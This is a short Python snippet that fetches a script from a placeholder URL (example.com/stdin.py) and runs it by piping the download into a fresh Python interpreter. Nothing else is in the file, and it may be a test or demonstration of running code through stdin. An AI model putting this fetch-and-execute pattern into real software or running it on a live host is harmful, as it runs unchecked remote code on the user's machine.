import subprocess
import sys
import urllib.request

p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
p.communicate(urllib.request.urlopen("https://example.com/stdin.py").read())
